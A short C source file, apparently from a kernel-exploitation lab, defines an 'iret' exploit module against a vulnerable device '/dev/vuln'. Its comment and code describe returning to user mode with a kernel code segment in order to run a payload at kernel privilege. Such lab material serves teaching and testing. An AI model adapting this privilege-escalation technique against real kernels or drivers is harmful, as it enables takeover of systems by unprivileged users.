// The driver "restores" a saved state whose code segment is the kernel's: the way back to user mode goes to the right
// address at the wrong privilege level.
#include "exploit.h"

static int run(const struct vuln_leak *leak) {
    (void)leak;
    struct vuln_request request = {(uintptr_t)payload_escape, 0, 0};
    return call_and_escape(open("/dev/vuln"), VULN_FRAME, (uintptr_t)&request);
}

const struct exploit exploit_iret = {"iret", run, payload_escape};
